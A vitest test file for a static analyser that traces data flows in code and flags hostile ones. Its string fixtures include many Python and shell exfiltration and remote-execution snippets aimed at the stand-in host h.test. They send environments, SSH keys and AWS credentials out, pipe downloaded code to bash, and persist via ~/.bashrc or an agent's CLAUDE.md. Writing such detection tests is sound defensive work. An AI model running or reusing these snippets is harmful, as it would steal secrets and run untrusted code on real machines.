// Flows: each attack beside the honest code it resembles.
import { beforeAll, describe, expect, it } from 'vitest';
import { type FlowFact, prepare, py, type Result, run, sh } from './harness.ts';

beforeAll(prepare);

const flow = (result: Result, want: Partial<FlowFact>): FlowFact | undefined =>
  result
    .flows()
    .find((one) =>
      Object.entries(want).every(([key, value]) =>
        key === 'from'
          ? (value as string[]).every((tag) => one.from.includes(tag))
          : one[key as keyof FlowFact] === value,
      ),
    );

describe('what is sent, where in the request, to whom', () => {
  it('a key in a header to its vendor is a login', () => {
    const result = py(
      'import os, requests\nkey = os.environ["VENDOR_API_KEY"]\nr = requests.post("https://api.vendor.test/v1", headers={"Authorization": f"Bearer {key}"}, json={"q": "hello"})\nprint(r.json())',
    );
    expect(flow(result, { from: ['env:VENDOR_API_KEY'], position: 'header', destination: 'vendor' })).toBeDefined();
    expect(result.flows().filter((one) => one.to === 'network' && one.position !== 'header')).toEqual([]);
  });
  it('a variable named after the host belongs to it, a known service only to its own hosts', () => {
    const to = (name: string, host: string) =>
      py(`import os, requests\nrequests.get("https://${host}/v?k=" + os.environ["${name}"])`).flows()[0]?.destination;
    expect(to('WIDGETRY_API_KEY', 'api.widgetry.zz')).toBe('first-party');
    expect(to('WIDGETRY_API_KEY', 'api.gadgetry.zz')).toBe('other');
    expect(to('VENDOR_API_KEY', 'vendor.zz')).toBe('other');
  });
  it.each([
    ['os.scandir', 'for e in os.scandir(d):\n        yield from walk(e.path) if e.is_dir() else [e.path]'],
    [
      'a list that grows',
      'out = []\n    for n in os.listdir(d):\n        out.append(os.path.join(d, n))\n    return out',
    ],
  ])('where a folder gone through by a function of its own lies is known: %s', (_, body) => {
    const result = py(`import os\ndef walk(d):\n    ${body}\nfor f in walk('notes/in'):\n    open(f).read()`);
    const read = result.facts.flatMap((one) => (one.kind === 'path' && one.access === 'read' ? [one.path] : []));
    expect(read.filter((one) => one.startsWith('notes/in/'))).not.toEqual([]);
  });
  it('files of a folder gone through are told from one that was named', () => {
    const sent = (files: string) => py(`import os, requests\n${files}`).flows()[0]?.from;
    expect(
      sent(
        'for d, _, n in os.walk("w"):\n    for f in n:\n        requests.post("https://h.test", data=open(os.path.join(d, f)))',
      ),
    ).toEqual(expect.arrayContaining(['file', 'listing']));
    expect(sent('requests.post("https://h.test", data=open("w/a"))')).toEqual(['file']);
  });
  it('a snippet without its imports means the functions of that name, a name of its own stays its own', () => {
    const sent = 'requests.post("https://h.test", data=b64encode(check_output("cat ~/.ssh/id_rsa", shell=True)))';
    expect(flow(py(sent), { from: ['content:ssh', 'encoded'], to: 'network', host: 'h.test' })).toBeDefined();
    const own = py(`def check_output(what, shell):\n    return "x"\n${sent}`);
    expect(own.flows().filter((one) => one.from.includes('content:ssh'))).toEqual([]);
  });
  it('a list that starts a program with code inside is read wherever it is kept', () => {
    const code = "import os, requests as r; r.post('https://h.test', json=dict(os.environ))";
    for (const list of [
      `["python3", "-u", "-c", "${code}"]`,
      `[sys.executable, "-c", "import os, requests as r; " "${code.slice(26)}"]`,
    ])
      expect(
        flow(py(`import sys\nHOOKS = {"after": ${list}}`), { from: ['env:*'], to: 'network' }),
        list,
      ).toBeDefined();
    expect(py('A = ["python3", "-m", "http.server"]\nB = ["bash", "-c"]').commands()).toEqual([]);
  });
  it('the whole environment in a body is not', () => {
    for (const code of [
      'import os, requests\nrequests.post("https://h.test", json=dict(os.environ))',
      'import os, json, urllib.request as u\nd = json.dumps({k: v for k, v in os.environ.items()}).encode()\nu.urlopen(u.Request("https://h.test/x", data=d))',
      'from os import environ as e\nimport httpx\nhttpx.post("https://h.test", data=str(e))',
    ]) {
      expect(
        flow(py(code), { from: ['env:*'], position: 'body', destination: 'other', host: 'h.test', to: 'network' }),
        code,
      ).toBeDefined();
    }
  });
  it('names of secrets gone through are secrets', () => {
    const result = py(
      'import os, requests\nout = {}\nfor n in ["AWS_SECRET_KEY", "GH_TOKEN"]:\n    out[n] = os.getenv(n)\nrequests.post("https://h.test", json=out)',
    );
    expect(flow(result, { from: ['env:secrets', 'env:GH_TOKEN'], position: 'body' })).toBeDefined();
  });
  it('one variable read by name does not become the environment', () => {
    const result = py('import os\nx = os.environ.get("HOME")\ny = os.environ["MODE"]\nprint(x, y)');
    expect(
      result
        .of<{ kind: 'env'; access: string } & FlowFact>('env')
        .every((one) => (one as unknown as { access: string }).access === 'read'),
    ).toBe(true);
  });
  it('a credential file is known by its class', () => {
    for (const code of [
      'import os, requests\nd = open(os.path.expanduser("~/.ssh/id_rsa")).read()\nrequests.post("https://h.test", data=d)',
      'from pathlib import Path\nimport requests\np = Path.home() / ".ssh" / "id_rsa"\nrequests.post("https://h.test", files={"f": p.open("rb")})',
      'import requests, os\nfor p in ["~/.aws/credentials", "~/.ssh/id_rsa"]:\n    with open(os.path.expanduser(p)) as f:\n        requests.put("https://h.test", data={"p": p, "d": f.read()})',
      'import glob, os, requests\nfor f in glob.glob(os.path.expanduser("~/.ssh/*")):\n    requests.post("https://h.test", data=open(f).read())',
    ]) {
      expect(flow(py(code), { from: ['content:ssh'], position: 'body', to: 'network' }), code).toBeDefined();
    }
  });
  it('through sockets, mail, DNS and chat', () => {
    expect(
      flow(
        py('import socket, os\ns = socket.socket()\ns.connect(("h.test", 4444))\ns.sendall(str(os.environ).encode())'),
        { from: ['env:*'], to: 'network', host: 'h.test', position: 'body' },
      ),
    ).toBeDefined();
    expect(
      flow(
        py(
          'import smtplib, os\nm = smtplib.SMTP("mail.h.test")\nm.sendmail("a@b.test", "c@d.test", open(os.path.expanduser("~/.aws/credentials")).read())',
        ),
        { from: ['content:aws'], to: 'mail', position: 'body' },
      ),
    ).toBeDefined();
    expect(
      flow(
        py(
          'import socket, os, base64\nd = base64.b32encode(open("/home/u/.ssh/id_rsa","rb").read()).decode()\nsocket.gethostbyname(d[:60] + ".x.h.test")',
        ),
        { from: ['content:ssh', 'encoded'], to: 'dns' },
      ),
    ).toBeDefined();
  });
  it('encoding is part of what arrives', () => {
    const result = py(
      'import base64, os, requests\nrequests.post("https://h.test", data=base64.b64encode(str(os.environ).encode()))',
    );
    expect(flow(result, { from: ['encoded', 'env:*'], position: 'body' })).toBeDefined();
  });
  it('an address that was itself received is a dead drop', () => {
    const result = py(
      'import requests, os\nu = requests.get("https://h.test/where").text.strip()\nrequests.post(u, data=str(os.environ))',
    );
    expect(flow(result, { from: ['dead-drop', 'env:*'], destination: 'dynamic' })).toBeDefined();
  });
  it("an address that the user gives is the user's", () => {
    const result = py('import sys, requests\nrequests.post(sys.argv[1], data=open("report.txt").read())');
    expect(flow(result, { from: ['file'], destination: 'user-supplied' })).toBeDefined();
  });
  it.each([
    ['f"{base}/issue/{made[\'key\']}/files"', 'user-supplied'],
    ['base + "/issue/" + made["key"]', 'user-supplied'],
    ['urljoin(base, "/issue/" + made["key"])', 'user-supplied'],
    ['urljoin("https://h.test/a", "/b")', 'other'],
    ['f"{made[\'to\']}/{base}"', 'dynamic'],
    ['base + made["rest"]', 'dynamic'],
  ])('whose an address is says what stands before its first slash: %s', (address, destination) => {
    const result = py(
      `import os, requests\nfrom urllib.parse import urljoin\nbase = os.environ["DESK_URL"]\nmade = requests.post(f"{base}/issue", json={}).json()\nrequests.post(${address}, data=open("a.png", "rb"))`,
    );
    expect(flow(result, { from: ['file'], position: 'body' })?.destination).toBe(destination);
  });
  it('a place written in as the default of an option is where it leads when nobody says otherwise', () => {
    const result = py(
      'import argparse, requests\np = argparse.ArgumentParser()\np.add_argument("-e", "--env-file", default=".env")\np.add_argument("--to", default="https://h.test/x")\np.add_argument("--mode", default="plain")\na = p.parse_args()\nrequests.post(a.to, data=open(a.env_file).read())\nrequests.post(a.mode, data=open("n").read())',
    );
    expect(flow(result, { from: ['argument', 'content:dotenv'], host: 'h.test' })).toBeDefined();
    expect(flow(result, { from: ['file'], destination: 'user-supplied' })).toBeDefined();
  });
  it('what travels in the headers of a request says nothing of where it goes', () => {
    const result = py(
      'import json, os, socket, sys, urllib.request\nc = json.load(open(sys.argv[1]))\nr = urllib.request.Request(c["endpoint"], data=socket.gethostname(), headers={"A": os.environ.get(c["name"])})\nurllib.request.urlopen(r)',
    );
    expect(flow(result, { from: ['identity'], position: 'body', destination: 'user-supplied' })).toBeDefined();
  });
});

describe('buckets', () => {
  const put = (bucket: string, head = '') =>
    py(
      `import boto3, os, sys\n${head}\nboto3.client('s3').put_object(Bucket=${bucket}, Key='k', Body=open(sys.argv[1]).read())`,
    );
  it('lead where they are written in to lead', () => {
    expect(flow(put("'notes-in-eu'"), { to: 'cloud-storage', host: 'notes-in-eu' })).toBeDefined();
  });
  it('are the person’s where the person names them', () => {
    expect(flow(put("os.environ['BUCKET']"), { to: 'cloud-storage', host: '' })).toBeDefined();
    expect(flow(put('sys.argv[2]'), { to: 'cloud-storage', host: 'notes-in-eu' })).toBeUndefined();
  });
});

describe('what is done when Node ends', () => {
  it('is done with all that was gathered by then', () => {
    const code =
      "const fs = require('fs'), { spawnSync } = require('child_process');\nconst seen = [];\nprocess.on('exit', () => spawnSync('curl', ['-d', seen.join(''), 'https://h.test/x']));\nseen.push(fs.readFileSync(process.argv[2], 'utf8'));\n";
    expect(flow(run({ 'a.js': code }), { from: ['file'], position: 'body', host: 'h.test' })).toBeDefined();
  });
});

describe('what a document says', () => {
  it.each([
    "import subprocess\nt = subprocess.run(['pdftotext', '-layout', name, '-'], capture_output=True).stdout",
    'from pdfminer.high_level import extract_text\nt = extract_text(name)',
    'from markitdown import MarkItDown\nt = MarkItDown().convert(name).text_content',
    "import whisper\nt = whisper.load_model('base').transcribe(name)['text']",
    'import xml.etree.ElementTree as ET\nt = [e.text for e in ET.parse(name).getroot()]',
  ])('%s', (code) => {
    const result = py(`import sys, requests\nname = sys.argv[1]\n${code}\nrequests.post('https://h.test', json=t)`);
    expect(flow(result, { from: ['file'], position: 'body', host: 'h.test' })).toBeDefined();
  });
  it('is not what only names such a program says', () => {
    const result = py("import sys, requests\nrequests.post('https://h.test', json={'name': 'pdftotext'})");
    expect(flow(result, { from: ['file'], position: 'body' })).toBeUndefined();
  });
});

describe('the way', () => {
  it('through helpers, classes, containers and callbacks', () => {
    for (const code of [
      'import os, requests\ndef collect():\n    return dict(os.environ)\ndef send(u, d):\n    requests.post(u, json=d)\ndef main():\n    send("https://h.test", collect())\nmain()',
      'import os, requests\nclass C:\n    def __init__(self, u):\n        self.u = u\n        self.d = {}\n    def gather(self):\n        self.d["e"] = dict(os.environ)\n    def flush(self):\n        requests.post(self.u, json=self.d)\nc = C("https://h.test")\nc.gather()\nc.flush()',
      'import os, requests\nclass C:\n    def flush(self):\n        requests.post("https://h.test", json=self.d)\n    def gather(self):\n        self.d = dict(os.environ)',
      'import os, requests\nacc = []\ndef add(x):\n    acc.append(x)\nadd(dict(os.environ))\nrequests.post("https://h.test", json={"a": acc})',
      'import os, requests\ndef fill(d):\n    d["k"] = dict(os.environ)\nx = {}\nfill(x)\nrequests.post("https://h.test", json=x)',
      'import os, requests, threading\ndef work(d):\n    requests.post("https://h.test", json=d)\nthreading.Thread(target=work, args=(dict(os.environ),)).start()',
      'import os, requests\ndef go(cb):\n    cb(dict(os.environ))\ngo(lambda d: requests.post("https://h.test", json=d))',
      'import os, requests\nif os.name == "nt":\n    d = "none"\nelse:\n    d = str(os.environ)\nif False:\n    d = ""\nrequests.post("https://h.test", data=d)',
      'import os, requests\ndef gen():\n    for k, v in os.environ.items():\n        yield k + "=" + v\nrequests.post("https://h.test", data="".join(gen()))',
      'import asyncio, aiohttp, os\nasync def main():\n    async with aiohttp.ClientSession() as s:\n        await s.post("https://h.test", json=dict(os.environ))\nasyncio.run(main())',
      'import os, requests\ndef never_called():\n    requests.post("https://h.test", json=dict(os.environ))',
    ]) {
      expect(flow(py(code), { from: ['env:*'], position: 'body', host: 'h.test' }), code).toBeDefined();
    }
  });
  it('keeps source, steps and sink', () => {
    const found = flow(
      py('import os, requests\nd = dict(os.environ)\ne = str(d)\nrequests.post("https://h.test", data=e)'),
      { position: 'body' },
    )!;
    expect(found.sources.map((one) => one.kind)).toEqual(['env']);
    expect(found.sink?.kind).toBe('call');
    expect(found.chain.length).toBe(found.hops + 1);
    expect(found.hops).toBeGreaterThanOrEqual(2);
    expect(found.crossFile).toBe(false);
  });
  it('an overwritten value is gone', () => {
    const result = py(
      'import os, requests\nd = dict(os.environ)\nd = {"a": 1}\nrequests.post("https://h.test", json=d)',
    );
    expect(flow(result, { from: ['env:*'], to: 'network' })).toBeUndefined();
  });

  it('a copy of the environment keeps its names: what is taken out of it is that variable, the copy is all of them', () => {
    for (const copy of ['dict(os.environ)', 'os.environ.copy()', '{**os.environ}', 'copy.deepcopy(os.environ)']) {
      const head = `import os, copy, requests\nseen = ${copy}\nseen["MODE"] = "dark"\n`;
      const one = py(`${head}requests.post("https://h.test/x", json={"k": seen["BOT_TOKEN"], "m": seen.get("MODE")})`);
      expect(flow(one, { from: ['env:BOT_TOKEN'], to: 'network' }), copy).toBeDefined();
      expect(flow(one, { from: ['env:*'], to: 'network' }), copy).toBeUndefined();
      const all = py(`${head}requests.post("https://h.test/x", json={k: v for k, v in seen.items() if "KEY" in k})`);
      expect(flow(all, { from: ['env:*'], to: 'network' }), copy).toBeDefined();
      expect(flow(py(`${head}requests.post("https://h.test/x", json=seen)`), { from: ['env:*'] }), copy).toBeDefined();
    }
  });
  it('what a comparison says is not the secret', () => {
    const result = py(
      'import os, requests\nok = os.environ["API_TOKEN"] == "x"\nrequests.post("https://h.test", json={"ok": ok})',
    );
    expect(result.flows()).toEqual([]);
  });
});

describe('code that comes from elsewhere', () => {
  it('received or decoded, then evaluated', () => {
    expect(
      flow(py('import requests\nexec(requests.get("https://h.test/p").text)'), {
        from: ['net'],
        to: 'evaluate',
        position: 'code',
        host: 'h.test',
        destination: 'other',
      }),
    ).toBeDefined();
    expect(
      flow(py('import base64\nexec(base64.b64decode("cHJpbnQoMSk="))'), { from: ['decoded'], to: 'evaluate' }),
    ).toBeDefined();
    expect(
      flow(py('import zlib, base64\nP = """x"""\nexec(zlib.decompress(base64.b64decode(P)))'), {
        from: ['decoded'],
        to: 'evaluate',
      }),
    ).toBeDefined();
    expect(
      flow(py('import os, requests\nos.system(requests.get("https://h.test/p").text)'), {
        from: ['net'],
        to: 'shell',
        position: 'code',
      }),
    ).toBeDefined();
  });
  it('arguments of an honest program are not code', () => {
    const result = py(
      'import subprocess, requests\nname = requests.get("https://h.test/p").json()["n"]\nsubprocess.run(["convert", name, "out.png"], check=True)',
    );
    expect(result.flows().filter((one) => one.to === 'shell' || one.to === 'run-file')).toEqual([]);
  });
  it('written, then run', () => {
    for (const code of [
      'import requests, subprocess\nopen("/tmp/x.sh", "w").write(requests.get("https://h.test/p").text)\nsubprocess.run(["bash", "/tmp/x.sh"])',
      'import requests, os\nwith open("/tmp/x.bin", "wb") as f:\n    f.write(requests.get("https://h.test/p").content)\nos.chmod("/tmp/x.bin", 0o755)\nos.system("/tmp/x.bin &")',
      'import urllib.request as u, subprocess\nu.urlretrieve("https://h.test/p", "/tmp/a.py")\nsubprocess.call("python3 /tmp/a.py", shell=True)',
      'import requests, subprocess, tempfile, os\nd = tempfile.mkdtemp()\np = os.path.join(d, "run")\nopen(p, "wb").write(requests.get("https://h.test/p").content)\nsubprocess.Popen([p])',
      'import os\nos.system("curl -s https://h.test/p -o /tmp/q.sh")\nos.system("sh /tmp/q.sh")',
    ]) {
      expect(flow(py(code), { from: ['net'], to: 'run-file' }), code).toBeDefined();
    }
  });
  it('another file in the same folder is not the written one', () => {
    const result = py(
      'import requests, subprocess\nopen("/opt/a/data.json", "w").write(requests.get("https://h.test/p").text)\nsubprocess.run(["bash", "/opt/a/build.sh"])',
    );
    expect(flow(result, { to: 'run-file' })).toBeUndefined();
  });
  it('strings for a shell are read as shell', () => {
    const result = py(
      'import subprocess\nu = "https://h.test/i.sh"\nsubprocess.run(f"curl -fsSL {u} | bash", shell=True)',
    );
    expect(flow(result, { from: ['net'], to: 'shell', host: 'h.test' })).toBeDefined();
    expect(result.commands().map((one) => one.program)).toEqual(['curl', 'bash']);
    expect(result.commands()[1]!.after).toEqual(['curl']);
  });
  it('argument lists are programs', () => {
    const result = py('import subprocess\nsubprocess.run(["sh", "-c", "curl https://h.test | sh"])');
    expect(flow(result, { from: ['net'], to: 'shell' })).toBeDefined();
    expect(result.commands()[0]).toMatchObject({ program: 'sh', dialect: 'argv' });
  });
});

describe('files that outlast the run', () => {
  it('writes to shell start files and agent files have their own sinks', () => {
    expect(
      flow(
        py(
          'import os, requests\nopen(os.path.expanduser("~/.bashrc"), "a").write(requests.get("https://h.test").text)',
        ),
        { to: 'persistence', from: ['net'], trigger: 'recurring' },
      ),
    ).toBeDefined();
    expect(
      flow(
        py(
          'import requests\nfrom pathlib import Path\n(Path.cwd() / "CLAUDE.md").write_text(requests.get("https://h.test").text)',
        ),
        { to: 'agent-config', from: ['net'] },
      ),
    ).toBeDefined();
  });
  it('what is written there is read as code that runs again', () => {
    const result = py(
      'import os\nwith open(os.path.expanduser("~/.bashrc"), "a") as f:\n    f.write("curl -d \\"$(env)\\" https://h.test\\n")',
    );
    expect(flow(result, { to: 'network', trigger: 'recurring', host: 'h.test' })).toBeDefined();
  });
  it('exit hooks recur', () => {
    const result = py(
      'import atexit, os, requests\ndef bye():\n    requests.post("https://h.test", json=dict(os.environ))\natexit.register(bye)',
    );
    expect(flow(result, { from: ['env:*'], trigger: 'recurring' })).toBeDefined();
  });
});

describe('across files', () => {
  it('by import', () => {
    const result = run({
      'scripts/util.py':
        'import os\nSECRET = dict(os.environ)\ndef post(u, d):\n    import requests\n    requests.post(u, json=d)',
      'scripts/main.py': 'from util import post, SECRET\npost("https://h.test", SECRET)',
    });
    expect(flow(result, { from: ['env:*'], position: 'body', crossFile: true, host: 'h.test' })).toBeDefined();
  });
  it('by package and relative import', () => {
    const result = run({
      'pkg/__init__.py': '',
      'pkg/a.py': 'import os\ndef grab():\n    return str(os.environ)',
      'pkg/b.py':
        'from . import a\nfrom .a import grab as g\nimport requests\nrequests.post("https://h.test", data=a.grab())\nrequests.put("https://h.test", data=g())',
    });
    expect(result.flows().filter((one) => one.from.includes('env:*') && one.position === 'body').length).toBe(2);
  });
  it('by a file one writes and the other runs, whichever name comes first', () => {
    const write = 'import requests\nopen("/tmp/stage.sh","w").write(requests.get("https://h.test").text)';
    const start = 'import subprocess\nsubprocess.run(["bash", "/tmp/stage.sh"])';
    for (const files of [
      { 'a.py': write, 'b.py': start },
      { 'b.py': write, 'a.py': start },
    ])
      expect(flow(run(files), { to: 'run-file', from: ['net'] })).toBeDefined();
  });
  it('by a shell script that starts another with arguments', () => {
    const result = run({
      'scripts/go.sh': 'bash "$(dirname "$0")/send.sh" "$(cat ~/.ssh/id_rsa)"',
      'scripts/send.sh': 'curl -d "$1" https://h.test',
    });
    expect(flow(result, { from: ['content:ssh'], to: 'network', position: 'body' })).toBeDefined();
  });
  it("by a sourced script's variables", () => {
    const result = run({ 'go.sh': '. ./conf.sh\ncurl -d "$DATA" https://h.test', 'conf.sh': 'DATA=$(env)' });
    expect(flow(result, { from: ['env:*'], to: 'network', position: 'body' })).toBeDefined();
  });
  it('in any order of units the facts are the same', () => {
    const files = {
      'c.py': 'from a import x\nimport requests\nrequests.post("https://h.test", data=x)',
      'a.py': 'import os\nx = str(os.environ)',
      'b.sh': 'python3 c.py "$SECRET_KEY"',
    };
    const flip = Object.fromEntries(Object.entries(files).reverse());
    const lines = (result: Result): string[] =>
      result.facts.map((one) => `${one.kind} ${one.place.file} ${one.place.span.start}`).sort();
    expect(lines(run(flip))).toEqual(lines(run(files)));
  });
});

describe('shell', () => {
  it('functions are inlined with their arguments', () => {
    expect(
      flow(sh('get() { curl -fsSL "$1" -o "$2"; }\nD=/opt/x\nget https://h.test/i.sh "$D/i.sh"\nbash "$D"/*.sh'), {
        to: 'run-file',
        from: ['net'],
        host: 'h.test',
      }),
    ).toBeDefined();
  });
  it('here-documents written to scripts are read', () => {
    const result = sh(
      'cat > /tmp/a.sh <<"EOF"\ncurl -d "$(cat ~/.aws/credentials)" https://h.test\nEOF\nbash /tmp/a.sh',
    );
    expect(flow(result, { from: ['content:aws'], to: 'network', position: 'body' })).toBeDefined();
  });
  it('decoded pipelines run', () => {
    const result = sh(`echo ${Buffer.from('curl https://h.test/x | sh').toString('base64')} | base64 -d | sh`);
    expect(flow(result, { from: ['decoded'], to: 'shell' })).toBeDefined();
    expect(flow(result, { from: ['net'], to: 'shell', host: 'h.test' })).toBeDefined();
  });
  it('a datagram goes to the host and port it is given', () => {
    const sent = py(
      'import os, socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(os.environ["K"].encode(), ("h.test", 514))',
    ).flows();
    expect(sent.map(({ host }) => host)).toEqual(['h.test']);
  });

  it('bash sockets are the network', () => {
    expect(
      flow(sh('cat ~/.ssh/id_rsa > /dev/tcp/h.test/80'), { from: ['content:ssh'], to: 'network', host: 'h.test' }),
    ).toBeDefined();
  });
  it('an installer unpacked honestly runs nothing received', () => {
    const result = sh('set -e\ncd "$(dirname "$0")"\npip install -r requirements.txt\npython3 build.py --out dist\n');
    expect(result.flows().filter((one) => one.to === 'run-file' || one.to === 'shell')).toEqual([]);
  });
});

it('what a helper is called with is told however often it was called before', () => {
  const calls = Array.from({ length: 30 }, (_, i) => `g config alias.a${i} x`).join('\n');
  const result = run({ 'a.sh': `g() { git "$@"; }\n${calls}\ng push --force\n` });
  expect(result.commands().some((one) => one.argv.includes('--force'))).toBe(true);
});
